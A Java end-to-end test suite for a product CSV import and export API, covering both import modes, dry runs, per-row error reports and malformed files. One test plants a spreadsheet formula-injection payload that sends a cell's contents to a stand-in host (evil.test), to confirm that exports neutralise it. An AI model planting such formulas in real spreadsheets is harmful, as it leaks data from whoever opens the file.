package dev.stockroom.bootstrap.e2e;

import static dev.stockroom.bootstrap.e2e.AccountFlowsTest.assertError;
import static dev.stockroom.bootstrap.e2e.HttpApi.map;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.stockroom.bootstrap.e2e.HttpApi.Reply;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * {@code POST /products/import/} over real HTTP: products created and changed by SKU, both modes,
 * dry runs, the per-row report, and files refused whole. Subclasses choose the database; on
 * PostgreSQL the all-or-nothing rollback is the database's own.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class ProductImportFlowsTest {
    private static final String BOUNDARY = "----stockroom-import-boundary";
    private static final String HEADER = "sku,name,price,quantity,description,status,category,tags,barcode,slug";

    abstract RunningStockroom stockroom();

    private ApiFixture fixture;

    HttpApi http() {
        return stockroom().http;
    }

    @BeforeAll
    void accounts() throws Exception {
        fixture = ApiFixture.create(stockroom());
    }

    @Test
    void creates_and_updates_by_sku_and_a_reimport_of_the_export_changes_nothing() throws IOException {
        String m = marker();
        long kettle = addId(map("name", "Kettle " + m, "price", "10", "quantity", 1, "sku", "K-" + m));

        Reply imported = importCsv(
                "sku,name,price,quantity,description,status,category,tags,barcode\r\n"
                        + "K-" + m + ",Kettle " + m
                        + ",12.50,4,\"Steel, 1.7 l \"\"quiet\"\"\",,Kitchen,steel;quiet,\r\n"
                        + "M-" + m + ",Mug " + m + ",3,20,\"Line one\nline two\",draft,Kitchen,,4006381333931\r\n"
                        + "T-" + m + ",Teapot " + m + ",20,2,,published,,,\r\n",
                Map.of());

        assertReport(imported, 200, "all_or_nothing", false, true, 2, 1, 0);
        assertThat(imported.body().get("errors")).isEmpty();
        String changedTag = http().get("/products/" + kettle + "/detail/", null).header("ETag");
        JsonNode changed = detail(kettle);
        assertThat(changed.get("price").asText()).isEqualTo("12.50");
        assertThat(changed.get("quantity").asInt()).isEqualTo(4);
        assertThat(changed.get("description").asText()).isEqualTo("Steel, 1.7 l \"quiet\"");
        assertThat(changed.get("status").asText())
                .as("an empty status keeps it")
                .isEqualTo("published");
        assertThat(texts(changed.get("tags"))).containsExactly("steel", "quiet");
        JsonNode mug = skuPage("M-" + m, "&status=draft").get("results").get(0);
        assertThat(mug.get("status").asText()).isEqualTo("draft");
        assertThat(mug.get("description").asText()).isEqualTo("Line one\nline two");
        assertThat(mug.get("barcode").asText()).isEqualTo("4006381333931");
        assertThat(mug.get("slug").asText()).isEqualTo("mug-" + m);

        String export = new String(
                http().get("/products/export/", fixture.owner.accessToken()).bytes(), UTF_8);
        // Records end in CRLF; the mug's description keeps its own LF inside quotes.
        String mine = java.util.Arrays.stream(export.split("\r\n"))
                .filter(record -> record.equals(HEADER) || record.contains(m))
                .collect(Collectors.joining("\r\n", "", "\r\n"));
        assertThat(mine.split("\r\n")).hasSize(4);
        Reply again = importCsv(mine, Map.of("mode", "per_row"));

        assertReport(again, 200, "per_row", false, true, 0, 0, 3);
        assertThat(http().get("/products/" + kettle + "/detail/", null).header("ETag"))
                .as("an unchanged row writes nothing")
                .isEqualTo(changedTag)
                .isNotNull();
    }

    @Test
    void a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_it_was() throws IOException {
        String m = marker();
        String formula = "=HYPERLINK(\"http://evil.test/?\"&A1) " + m;
        long id = addId(map(
                "name", formula, "price", "1", "quantity", 1, "sku", "F-" + m, "description", "-1 for the neighbours"));

        String export = new String(
                http().get("/products/export/", fixture.owner.accessToken()).bytes(), UTF_8);
        String row = java.util.Arrays.stream(export.split("\r\n"))
                .filter(record -> record.startsWith("F-" + m))
                .findFirst()
                .orElseThrow();
        assertThat(row).startsWith("F-" + m + ",\"'=HYPERLINK(").contains("'-1 for the neighbours");

        Reply again = importCsv(HEADER + "\r\n" + row + "\r\n", Map.of());
        assertReport(again, 200, "all_or_nothing", false, true, 0, 0, 1);
        assertThat(detail(id).get("name").asText()).isEqualTo(formula);
    }

    @Test
    void all_or_nothing_applies_nothing_when_a_row_is_bad_and_lists_every_error() throws IOException {
        String m = marker();
        long kettle = addId(map("name", "Kettle " + m, "price", "10", "quantity", 1, "sku", "K-" + m));
        String csv = "sku,name,price,quantity\r\n"
                + "K-" + m + ",Kettle " + m + ",11,1\r\n"
                + "A-" + m + ",,-1,1\r\n"
                + "B-" + m + ",Bowl " + m + ",2,1\r\n"
                + "B-" + m + ",Bowl again,2,1\r\n"
                + "bad sku!,Cup,2,many\r\n";

        Reply refused = importCsv(csv, Map.of());

        assertReport(refused, 400, "all_or_nothing", false, false, 1, 1, 0);
        assertThat(errors(refused))
                .containsExactly("2 name", "2 price", "4 sku The same SKU is in row 3 already.", "5 sku");
        assertThat(detail(kettle).get("price").asText()).isEqualTo("10.00");
        assertThat(skuPage("B-" + m).get("count").asInt()).isZero();

        Reply german = importCsv(csv, Map.of(), "Accept-Language", "de");
        assertThat(german.status()).isEqualTo(400);
        assertThat(german.header("Content-Language")).isEqualTo("de");
        assertThat(german.body().get("message").asText()).startsWith("Nichts wurde importiert");
        assertThat(german.body().at("/errors/2/message").asText()).isEqualTo("Dieselbe SKU steht schon in Zeile 3.");
    }

    @Test
    void per_row_applies_the_good_rows_and_reports_the_bad_ones() throws IOException {
        String m = marker();

        Reply imported = importCsv(
                "name,sku,price,quantity,slug\r\n"
                        + "Plate " + m + ",P-" + m + ",5,3,\r\n"
                        + "Fork " + m + ",F-" + m + ",abc,3,\r\n"
                        + "Knife " + m + ",N-" + m + ",4,3,Not A Slug\r\n"
                        + "Spoon " + m + ",S-" + m + ",1,3,spoon-" + m + "\r\n",
                Map.of("mode", "per_row"));

        assertReport(imported, 200, "per_row", false, true, 2, 0, 0);
        assertThat(imported.body().get("status").asBoolean()).isTrue();
        assertThat(imported.body().get("message").asText()).isEqualTo("Imported, except the rows listed in errors.");
        assertThat(errors(imported)).containsExactly("2 price", "3 slug");
        assertThat(bySku("P-" + m).get("price").asText()).isEqualTo("5.00");
        assertThat(bySku("S-" + m).get("slug").asText()).isEqualTo("spoon-" + m);
        assertThat(skuPage("F-" + m).get("count").asInt()).isZero();
    }

    @Test
    void a_dry_run_reports_what_the_import_would_do_and_changes_nothing() throws IOException {
        String m = marker();
        long kettle = addId(map("name", "Kettle " + m, "price", "10", "quantity", 1, "sku", "K-" + m));
        String csv = "sku,price\r\nK-" + m + ",11\r\nNEW-" + m + ",3\r\n";

        Reply dry = importCsv(csv, Map.of("dry_run", "true"));
        assertReport(dry, 400, "all_or_nothing", true, false, 0, 1, 0);
        assertThat(errors(dry)).containsExactly("2 name", "2 quantity");

        Reply dryPerRow =
                post("/products/import/?mode=per_row&dry_run=true", form(csv, Map.of()), fixture.owner.accessToken());
        assertReport(dryPerRow, 200, "per_row", true, false, 0, 1, 0);
        assertThat(dryPerRow.body().get("message").asText()).isEqualTo("Dry run: nothing was changed.");
        assertThat(detail(kettle).get("price").asText()).isEqualTo("10.00");

        Reply real = importCsv(csv, Map.of("mode", "per_row"));
        assertReport(real, 200, "per_row", false, true, 0, 1, 0);
        assertThat(detail(kettle).get("price").asText()).isEqualTo("11.00");
    }

    @Test
    void a_malformed_file_is_refused_whole_with_the_place_at_fault() throws IOException {
        String m = marker();
        String goodRow = "G-" + m + ",Good " + m + ",1,1\r\n";
        Map<String, String> files = new LinkedHashMap<>();
        files.put("", "The file is empty");
        files.put("sku,name,price,colour\r\n", "unknown column \"colour\"");
        files.put("sku,name,sku\r\n", "the column sku twice");
        files.put(
                "sku,name,price,quantity\r\n" + goodRow + "X-" + m + ",Extra,1,1,surplus\r\n",
                "Row 2 (line 3) has 5 fields");
        files.put("sku,name,price,quantity\r\n" + goodRow + "Q-" + m + ",\"Open quote,1,1\r\n", "not valid CSV");

        for (Map.Entry<String, String> file : files.entrySet()) {
            Reply refused = importCsv(file.getKey(), Map.of("mode", "per_row"));
            assertThat(refused.status()).as(refused.toString()).isEqualTo(400);
            assertThat(refused.body().get("message").asText())
                    .isEqualTo("The file is not a CSV file that can be imported.");
            assertThat(refused.body().at("/errors/file/0").asText()).contains(file.getValue());
        }
        byte[] latin1 = ("sku,name,price,quantity\r\n" + goodRow + "L-" + m + ",Crème,1,1\r\n")
                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
        Reply notUtf8 = post("/products/import/", form(latin1, Map.of("mode", "per_row")), fixture.owner.accessToken());
        assertThat(notUtf8.status()).as(notUtf8.toString()).isEqualTo(400);
        assertThat(notUtf8.body().at("/errors/file/0").asText()).isEqualTo("The file is not UTF-8 text.");
        assertThat(skuPage("G-" + m).get("count").asInt())
                .as("no row of a refused file is applied")
                .isZero();

        Reply withBom = importCsv("\uFEFF" + "sku,name,price,quantity\r\n" + goodRow, Map.of());
        assertReport(withBom, 200, "all_or_nothing", false, true, 1, 0, 0);
    }

    @Test
    void refuses_bad_options_a_missing_file_and_callers_who_may_not_write() throws IOException {
        String csv = "name,price,quantity\r\nX,1,1\r\n";

        assertThat(importCsv(csv, Map.of("mode", "sometimes"))
                        .body()
                        .at("/errors/mode/0")
                        .asText())
                .isEqualTo("Must be all_or_nothing or per_row.");
        assertThat(importCsv(csv, Map.of("dry_run", "yes"))
                        .body()
                        .at("/errors/dry_run/0")
                        .asText())
                .isEqualTo("Must be true or false.");
        Reply noFile = post(
                "/products/import/",
                ("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"mode\"\r\n\r\nper_row\r\n--" + BOUNDARY
                                + "--\r\n")
                        .getBytes(UTF_8),
                fixture.owner.accessToken());
        assertThat(noFile.status()).as(noFile.toString()).isEqualTo(400);
        assertThat(noFile.body().at("/errors/file/0").asText()).contains("'file'");
        assertError(post("/products/import/", form(csv, Map.of()), null), 401);
        assertError(post("/products/import/", form(csv, Map.of()), fixture.newcomer.accessToken()), 403);
    }

    @Test
    void imports_two_thousand_rows_in_one_transaction() throws IOException {
        String m = marker();
        StringBuilder csv = new StringBuilder("sku,name,price,quantity,description,tags\r\n");
        int rows = 2_000;
        for (int i = 1; i <= rows; i++) {
            csv.append("BULK-")
                    .append(m)
                    .append('-')
                    .append(i)
                    .append(",Bulk ")
                    .append(m)
                    .append(' ')
                    .append(i)
                    .append(",")
                    .append(i % 100)
                    .append(".99,")
                    .append(i)
                    .append(",\"Row ")
                    .append(i)
                    .append(", with a comma\",bulk;n")
                    .append(i % 7)
                    .append("\r\n");
        }

        Reply imported = importCsv(csv.toString(), Map.of());

        assertReport(imported, 200, "all_or_nothing", false, true, rows, 0, 0);
        assertThat(http().get("/products/?search=Bulk%20" + m + "&page_size=1", null)
                        .body()
                        .get("count")
                        .asInt())
                .isEqualTo(rows);
        assertThat(bySku("BULK-" + m + "-1234").get("quantity").asInt()).isEqualTo(1234);
    }

    private Reply importCsv(String csv, Map<String, String> fields, String... headers) throws IOException {
        return post("/products/import/", form(csv, fields), fixture.owner.accessToken(), headers);
    }

    private Reply post(String path, byte[] form, String token, String... headers) {
        return http().sendWith(path, "POST", "multipart/form-data; boundary=" + BOUNDARY, form, token, headers);
    }

    private static byte[] form(String csv, Map<String, String> fields) throws IOException {
        return form(csv.getBytes(UTF_8), fields);
    }

    private static byte[] form(byte[] csv, Map<String, String> fields) throws IOException {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (Map.Entry<String, String> field : fields.entrySet()) {
            body.write(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field.getKey() + "\"\r\n\r\n"
                            + field.getValue() + "\r\n")
                    .getBytes(UTF_8));
        }
        body.write(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"products.csv\"\r\n"
                        + "Content-Type: text/csv\r\n\r\n")
                .getBytes(UTF_8));
        body.write(csv);
        body.write(("\r\n--" + BOUNDARY + "--\r\n").getBytes(UTF_8));
        return body.toByteArray();
    }

    private static void assertReport(
            Reply reply,
            int status,
            String mode,
            boolean dryRun,
            boolean applied,
            int created,
            int updated,
            int unchanged) {
        assertThat(reply.status()).as(reply.toString()).isEqualTo(status);
        JsonNode body = reply.body();
        assertThat(body.get("status").asBoolean()).as(reply.toString()).isEqualTo(status == 200);
        assertThat(body.get("mode").asText()).isEqualTo(mode);
        assertThat(body.get("dry_run").asBoolean()).isEqualTo(dryRun);
        assertThat(body.get("applied").asBoolean()).as(reply.toString()).isEqualTo(applied);
        assertThat(List.of(
                        body.get("created").asInt(),
                        body.get("updated").asInt(),
                        body.get("unchanged").asInt()))
                .as(reply.toString())
                .containsExactly(created, updated, unchanged);
    }

    /** Each error as "row column", with the message when it is about the SKU repeating. */
    private static List<String> errors(Reply reply) {
        List<String> errors = new ArrayList<>();
        reply.body().get("errors").forEach(e -> {
            String text = e.get("row").asInt() + " " + e.get("column").asText();
            errors.add(
                    e.get("message").asText().startsWith("The same SKU")
                            ? text + " " + e.get("message").asText()
                            : text);
        });
        return errors;
    }

    private long addId(Map<String, Object> body) {
        Reply added = http().post("/products/add/", body, fixture.owner.accessToken());
        assertThat(added.status()).as(added.toString()).isEqualTo(201);
        return added.body().at("/data/id").asLong();
    }

    private JsonNode detail(long id) {
        Reply detail = http().get("/products/" + id + "/detail/", fixture.owner.accessToken());
        assertThat(detail.status()).as(detail.toString()).isEqualTo(200);
        return detail.body();
    }

    private JsonNode skuPage(String sku) {
        return skuPage(sku, "");
    }

    private JsonNode skuPage(String sku, String moreQuery) {
        Reply page = http().get("/products/?owner=me&sku=" + sku + moreQuery, fixture.owner.accessToken());
        assertThat(page.status()).as(page.toString()).isEqualTo(200);
        return page.body();
    }

    private JsonNode bySku(String sku) {
        JsonNode page = skuPage(sku);
        assertThat(page.get("count").asInt()).as(page.toString()).isEqualTo(1);
        return page.get("results").get(0);
    }

    private static List<String> texts(JsonNode array) {
        List<String> texts = new ArrayList<>();
        array.forEach(n -> texts.add(n.asText()));
        return texts;
    }

    private static String marker() {
        return UUID.randomUUID().toString().substring(0, 8);
    }
}
